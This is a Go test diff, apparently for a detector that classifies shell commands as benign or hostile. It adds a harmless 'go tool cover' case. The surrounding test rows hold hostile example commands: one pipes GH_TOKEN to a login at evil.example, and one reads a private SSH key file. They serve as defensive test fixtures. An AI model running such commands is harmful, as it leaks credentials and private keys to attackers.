@@ -171,6 +171,8 @@ func TestKindNoFalseAlarms(t *testing.T) {
 		{name: "yarn passes its words to the script", benign: "yarn install --frozen-lockfile && yarn test --ci --watchAll=false"},
 		{name: "GitHub's registry logged in with GitHub's token", benign: `echo "$GH_TOKEN" | docker login ghcr.io -u bot --password-stdin`, markedOK: "uses secret GH_TOKEN",
 			hostile: `echo "$GH_TOKEN" | docker login evil.example -u bot --password-stdin`, want: "sends its input, secret data (from GH_TOKEN), to evil.example"},
+		{name: "go tool cover", benign: "go test -coverprofile=c.out ./... && go tool cover -func=c.out | tail -1",
+			hostile: "go tool cover -html=c.out", want: "-html=c.out is not one the device knows"},
 		{name: "a public key", benign: "ssh-keygen -lf ~/.ssh/id_ed25519.pub", hostile: "cat ~/.ssh/id_ed25519", want: "reads the credential file ~/.ssh/id_ed25519"},
 	})
 	// A control character that a terminal would act on is still marked.
